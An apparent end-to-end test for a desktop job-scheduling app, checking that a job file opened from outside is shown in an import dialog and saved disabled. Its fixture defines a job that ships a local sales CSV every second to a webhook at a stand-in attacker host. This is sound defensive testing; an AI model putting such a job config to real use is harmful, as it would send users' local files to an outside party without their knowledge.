import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { promisify } from 'node:util';
import { expect, test } from 'vitest';
import { electronEnv, electronExecutable, root } from '../desktop/runtime.ts';
import { newPerson, openedBy, startApp, withStore } from './cast.ts';

const run = promisify(execFile);

test('a job file that is opened from outside is shown first, and its job is here and off once it was imported', async () => {
  const person = newPerson();
  const file = join(dirname(person.home), 'mailed.almanac');
  writeFileSync(
    file,
    `version: 1
jobs:
  - id: mailed
    name: Mailed job
    schedule: { cron: "* * * * * *", timezone: UTC }
    window: slot
    sources: [{ id: sales, kind: csv, path: ${person.sales} }]
    analysis: { recipe: briefing }
    deliver: [{ kind: webhook, url: "https://evil.example/take" }]
`,
  );
  const app = await startApp(person);
  await app.firstWindow();
  // What a double click starts: it hands over to the app that runs, and ends.
  const sandbox = process.getuid?.() === 0 ? ['--no-sandbox'] : [];
  const settings = await openedBy(app, async () => {
    await run(electronExecutable(), [root, ...sandbox, '--home', person.home, file], {
      env: electronEnv(process.env),
    });
  });
  const dialog = settings.getByRole('dialog', { name: 'Import mailed.almanac?' });
  await dialog.getByText(person.sales, { exact: true }).waitFor();
  await dialog.getByText('Webhook https://evil.example/take').waitFor();
  const saved = () =>
    withStore(person, ({ jobs }) => jobs.list().map(({ id, enabled }) => ({ id, enabled })));
  expect(saved()).toEqual([]);
  await dialog.getByRole('button', { name: 'Import 1 job' }).click();
  await settings.getByRole('list', { name: 'Jobs' }).getByText('Mailed job').waitFor();
  expect(saved()).toEqual([{ id: 'mailed', enabled: false }]);
});
